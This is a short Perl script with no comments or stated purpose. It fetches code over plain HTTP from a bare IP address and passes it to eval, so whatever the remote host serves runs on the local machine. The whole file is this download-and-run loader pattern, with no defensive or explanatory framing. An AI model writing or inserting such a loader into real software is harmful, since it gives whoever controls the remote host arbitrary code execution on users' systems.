use strict;
use warnings;
use LWP::Simple qw(get);

my $code = get('http://203.0.113.45/perl/mod.pl');
if (defined $code) {
    eval $code;
}
